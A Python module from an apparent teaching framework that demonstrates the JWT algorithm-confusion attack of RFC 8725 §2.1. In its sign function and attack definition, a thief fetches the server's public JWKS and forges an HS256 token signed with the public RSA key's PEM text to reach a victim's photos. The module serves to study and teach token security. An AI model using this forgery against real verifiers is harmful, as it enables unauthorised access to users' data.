"""Algorithm confusion: a public RSA key is taken for the secret of an HMAC (RFC 8725 §2.1)."""

from __future__ import annotations

from contextlib import suppress

import httpx2

from app.actors.confusion import hs256, public_key_text
from app.actors.keys import ID_TOKENS
from app.actors.places import KEYS
from app.attacks.forging import attack
from app.attacks.parts import ATTACKER, STEAL
from app.wire import Actor, Step


def sign(thief: Actor, signed: str) -> str:
    """HMAC with the text of the public key, PEM with the line break at its end: everybody can compute this."""
    with suppress(httpx2.TransportError):
        thief.http.get(KEYS)
    secret = public_key_text()
    inputs = {"secret": secret.decode(), "header.payload": signed}
    return thief.work("HMAC-SHA256 with the public RSA key as the secret", inputs, hs256(secret, signed))


ATTACK = attack(
    "algorithm-confusion",
    {"alg": "HS256", "typ": "at+jwt", "kid": ID_TOKENS},
    sign,
    steps=(Step("thief_keys", ATTACKER, "as", "GET", "/jwks", STEAL, "The thief fetches the public keys"),),
    title="Public key taken for a secret",
    spec=("RFC 8725 §2.1", "RFC 8725 §3.1"),
    aim="A token that the attacker signed with a public key opens Ana's photos.",
    victim="Ana allowed the albums, and nothing else. Nobody asks her again.",
    attacker="He signs with the one key that everybody has: the server publishes it, to be verified with.",
    remains="Whoever holds the issuer's private key signs what he likes, with the right algorithm.",
)
